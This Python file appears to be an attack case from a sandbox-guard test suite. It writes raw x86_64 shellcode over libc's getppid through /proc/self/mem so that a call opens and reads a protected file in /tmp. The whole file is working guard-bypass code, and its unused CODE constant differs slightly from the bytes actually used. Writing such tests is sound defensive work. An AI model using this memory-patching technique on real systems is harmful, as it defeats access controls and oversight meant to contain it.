# class: machine_code
# rule: guard_integrity
# needs: x86_64
# success: machine code written over a function of libc through /proc/self/mem, in plain Python,
#   reads a file in /tmp
# proof: read
import os

from attack import FILE, attempt, by_address

# In place of getppid(): opens the file whose name follows, reads it to the end of the page, returns
# its fd.
CODE = bytes.fromhex("b802000000488d3d0f00000031f631d20f05c3") + b"\x90" * 8


@attempt
def steal():
    at = by_address("getppid")
    code = bytes.fromhex("b802000000488d3d0700000031f631d20f05c3") + os.fsencode(FILE) + b"\0"
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(at)
        memory.write(code)
    return os.read(os.getppid(), 100)
